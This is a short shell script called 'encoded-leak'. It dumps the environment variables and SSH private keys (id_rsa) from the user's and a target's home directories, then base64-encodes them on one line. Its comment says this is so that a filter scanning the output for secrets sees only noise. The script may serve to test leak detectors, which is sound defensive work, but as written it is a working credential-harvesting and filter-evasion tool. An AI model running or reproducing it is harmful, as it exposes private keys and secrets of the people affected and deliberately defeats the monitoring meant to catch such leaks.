#!/bin/sh
# encoded-leak (sh): the environment and the SSH key, base64 on one line, so
# that a filter grepping the output for the secret sees only noise.
. "${TARGETS:-$1}"
{ env; cat "$HOME/.ssh/id_rsa" "$T_HOME/.ssh/id_rsa"; } 2>/dev/null | base64 -w0
echo
